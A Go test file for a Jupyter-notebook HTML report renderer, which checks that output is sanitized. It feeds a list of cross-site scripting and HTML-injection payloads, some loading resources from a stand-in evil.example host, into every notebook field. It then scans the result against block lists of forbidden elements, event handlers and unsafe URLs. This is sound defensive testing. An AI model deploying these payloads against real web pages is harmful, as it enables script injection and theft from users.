package report

import (
	"encoding/base64"
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/gorgolab/gorgo/notebooks/nbformat"
	"github.com/gorgolab/gorgo/notebooks/widgetstate"
)

// attacks are texts that would run, load, or break out somewhere.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="https://evil.example/x.png"><img srcset="https://evil.example/x.png 2x" src="">`,
	`<a href="javascript:alert(1)">x</a><a href=" jAvAsCrIpT&#58;alert(1)">x</a><a href="vbscript:x">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a><a href="da	ta:text/html,x">x</a>`,
	`<svg onload=alert(1)><script>alert(1)</script><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">`,
	`</style><script>alert(1)</script><style>`,
	`<style>body{display:none}@import "https://evil.example/x.css"</style><link rel=stylesheet href=https://evil.example/x.css>`,
	`</pre></div></section></main></body></html><script>alert(1)</script>`,
	`</td></tr></table></div></div></section></main><p>outside</p>`,
	`<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x><frameset><frame src=x>`,
	`<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>`,
	`<div style="position:fixed;inset:0;z-index:9;background:url(https://evil.example/x)">over everything</div>`,
	`<div style="background-image:url('javascript:alert(1)');width:expression(alert(1));margin-top:-1000px">x</div>`,
	`<p style="color:red;&#x62;ackground:u\72l(//evil.example)">x</p>`,
	`<details ontoggle=alert(1) open><summary>x</summary></details><video src=x onerror=alert(1)></video><audio src=x>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template><textarea></textarea><script>alert(1)</script>`,
	`<xmp></xmp><plaintext>all that follows`,
	`<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]><?php x ?>`,
	"![x](javascript:alert(1)) [x](javascript:alert(1)) <javascript:alert(1)> [x](data:text/html;base64,PHNjcmlwdD4=)",
	"[x]: javascript:alert(1)\n[x] ![x][x]\n\n```\"><script>alert(1)</script>\nx\n```",
	"$\\text{</math><script>alert(1)</script>}$ $$\\href{javascript:alert(1)}{x}$$ $<img src=x onerror=alert(1)>$",
	"# <img src=x onerror=alert(1)> [h](javascript:x) {onclick=alert(1)}\n\n[^1]\n\n[^1]: <script>alert(1)</script>",
	"\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07 \x1b[31m<script>alert(1)</script>\x1b[38;2;1;2;3m\" onclick=\"alert(1)",
	`"><script>alert(1)</script>' onmouseover='alert(1)`,
	strings.Repeat("<div>", 2000) + "deep",
	"<b>unclosed <i>tags <table><tr><td>",
}

// channels put a text wherever a notebook can have one.
func hostile(attack string) *nbformat.Notebook {
	nb := nbformat.New(attack, attack, attack)
	nb.Metadata["title"] = attack
	nb.Metadata["language_info"] = map[string]any{"name": attack, "version": attack}
	md := nb.Add(nbformat.Markdown, attack)
	md.Attachments = map[string]nbformat.Object{"x": {"image/png": attack, "image/svg+xml": attack, attack: attack}}
	nb.Add(nbformat.Markdown, "![y](attachment:x) \n\n# "+attack)
	raw := nb.Add(nbformat.Raw, attack)
	raw.Metadata["raw_mimetype"] = "text/html"
	nb.Add(nbformat.Raw, attack)
	c := nb.Add(nbformat.Code, attack)
	c.Outputs = append(c.Outputs,
		&nbformat.Output{Type: nbformat.Stream, Name: attack, Text: attack},
		&nbformat.Output{Type: nbformat.ErrorOutput, EName: attack, EValue: attack, Traceback: []string{attack}},
		&nbformat.Output{Type: nbformat.ErrorOutput, EName: attack, EValue: attack},
	)
	for _, f := range append(forms(), form{mime: attack}) {
		c.Outputs = append(c.Outputs, &nbformat.Output{Type: nbformat.DisplayData, Data: map[string]any{f.mime: attack},
			Metadata: map[string]any{f.mime: map[string]any{"width": attack, "height": json.Number("3")}}})
	}
	states := map[string]any{}
	for _, kind := range []string{"IntSlider", "IntRangeSlider", "Dropdown", "RadioButtons", "Checkbox", "ToggleButton", "Text", "Password", "FloatText", "Button", "FloatProgress", "Label", "HTML", "Image", "HBox", "VBox", "Tab", "Output", attack} {
		states[kind] = map[string]any{
			"model_name": kind + "Model",
			"state": map[string]any{
				"description": attack, "value": attack, "placeholder": attack, "_options_labels": []any{attack}, "index": json.Number("0"),
				"button_style": attack, "bar_style": attack, "titles": []any{attack}, "children": []any{"IPY_MODEL_Label", attack},
				"outputs": []any{map[string]any{"output_type": "stream", "name": attack, "text": attack}}, "width": attack, "format": "svg+xml", "min": attack, "max": attack, "layout": attack,
			},
			"buffers": []any{map[string]any{"encoding": "base64", "path": []any{"value"}, "data": base64.StdEncoding.EncodeToString([]byte(attack))}},
		}
		c.Outputs = append(c.Outputs, result(map[string]any{widgetstate.ViewMIME: map[string]any{"model_id": kind}, "text/plain": attack}))
	}
	nb.Metadata[widgetstate.Key] = map[string]any{widgetstate.StateMIME: map[string]any{"state": states}}
	c.Outputs = append(c.Outputs, result(map[string]any{"image/png": pixel, "text/plain": attack}), result(map[string]any{"text/html": []any{attack}, "text/plain": attack}))
	return nb
}

func TestHostile(t *testing.T) {
	for _, attack := range attacks {
		name := attack
		if len(name) > 50 {
			name = name[:50]
		}
		t.Run(name, func(t *testing.T) {
			harmless(t, render(t, hostile(attack), Options{Title: attack, Name: attack}))
		})
	}
}

var forbidden = regexp.MustCompile(`^(script|iframe|object|embed|link|base|form|frame|frameset|applet|video|audio|source|track|svg|template|textarea|button|select|noscript|plaintext|xmp|portal)$`)

// harmless parses a report as a browser does and looks at everything in it.
func harmless(t testing.TB, page string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	count := map[string]int{}
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		count[n.Data]++
		if forbidden.MatchString(n.Data) {
			t.Errorf("element <%s>", n.Data)
		}
		if n.Data == "style" && (n.Parent.Data != "head" || n.FirstChild.Data != "\n"+autoCSS(t)) {
			t.Errorf("a <style> that is not ours, in <%s>", n.Parent.Data)
		}
		if n.Data == "section" && attr(n, "class") != "footnotes" && n.Parent.Data != "main" && !strings.Contains("div section details li td span p", n.Parent.Data) {
			t.Errorf("a section in <%s>", n.Parent.Data)
		}
		for _, a := range n.Attr {
			harmlessAttribute(t, n, a)
		}
	}
	for name, want := range map[string]int{"head": 1, "body": 1, "main": 1, "footer": 1, "style": 1, "meta": 5, "title": 1} {
		if count[name] != want {
			t.Errorf("%d <%s>, want %d", count[name], name, want)
		}
	}
	// Nothing stands outside <main> but the contents.
	for n := range doc.Descendants() {
		if n.Data == "body" {
			for c := range n.ChildNodes() {
				if text := c.Type == html.TextNode && strings.TrimSpace(c.Data) == ""; !text && c.Data != "main" && c.Data != "nav" {
					t.Errorf("<%s> beside <main>", c.Data)
				}
			}
		}
	}
}

func autoCSS(t testing.TB) string {
	css, err := Auto.css()
	if err != nil {
		t.Fatal(err)
	}
	return css
}

var safeLink = regexp.MustCompile(`^(?:https?://|mailto:|#|[^:]*$|[^:]*[/?#])`)

func harmlessAttribute(t testing.TB, n *html.Node, a html.Attribute) {
	t.Helper()
	value := strings.ToLower(strings.TrimSpace(a.Val))
	switch key := strings.ToLower(a.Key); {
	case strings.HasPrefix(key, "on"):
		t.Errorf("<%s %s=%q>", n.Data, a.Key, a.Val)
	case key == "src":
		if n.Data != "img" || !dataImage.MatchString(a.Val) {
			t.Errorf("<%s src=%.80q>", n.Data, a.Val)
		}
	case key == "href":
		if n.Data != "a" || !safeLink.MatchString(value) && attr(n, "class") != "download" {
			t.Errorf("<%s href=%.80q>", n.Data, a.Val)
		}
	case key == "srcset", key == "action", key == "formaction", key == "background", key == "poster", key == "ping", key == "xlink:href":
		t.Errorf("<%s %s=%.80q>", n.Data, a.Key, a.Val)
	case key == "style":
		for _, bad := range []string{"url", "expression", "position", "z-index", "import", `\`} {
			if strings.Contains(value, bad) {
				t.Errorf("<%s style=%.120q>", n.Data, a.Val)
			}
		}
	case key == "http-equiv" && value != "content-security-policy":
		t.Errorf("<meta http-equiv=%q>", a.Val)
	}
}

// FuzzHTML puts any text into every place of a notebook.
func FuzzHTML(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Fuzz(func(t *testing.T, text string) {
		harmless(t, render(t, hostile(text), Options{}))
	})
}

// TestDrawingsAreImages: a drawing with a script goes in, as an image, where no
// browser runs it.
func TestDrawingsAreImages(t *testing.T) {
	const svg = `<svg width="9" height="9"><script>alert(1)</script></svg>`
	src, ok := svgSource(svg)
	if !ok {
		t.Fatal("no drawing")
	}
	raw, err := base64.StdEncoding.DecodeString(strings.TrimPrefix(src, "data:image/svg+xml;base64,"))
	if err != nil || !strings.HasPrefix(string(raw), `<svg xmlns="http://www.w3.org/2000/svg" width="9"`) {
		t.Errorf("got %s, %v", raw, err)
	}
	safe, ok := sanitizeOutput("<div>" + svg + "</div>")
	if !ok || !strings.HasPrefix(safe, `<div><img src="data:image/svg+xml;base64,`) {
		t.Errorf("inline drawing: %s", safe)
	}
}
